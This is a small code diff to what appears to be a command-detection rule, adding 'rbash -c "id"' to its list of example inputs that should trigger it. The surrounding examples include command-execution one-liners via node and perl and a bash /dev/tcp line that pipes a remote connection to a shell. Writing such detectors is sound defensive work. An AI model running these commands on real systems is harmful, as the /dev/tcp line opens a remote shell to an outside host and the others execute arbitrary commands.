@@ -160,6 +160,7 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      'rbash -c "id"',
       "node -e \"{{require('child_process').exec('id')}}\"",
       "perl -p -i -e 's/a/`id`/e' file",
       "bash -c '</dev/tcp/203.0.113.7/4444 sh'",
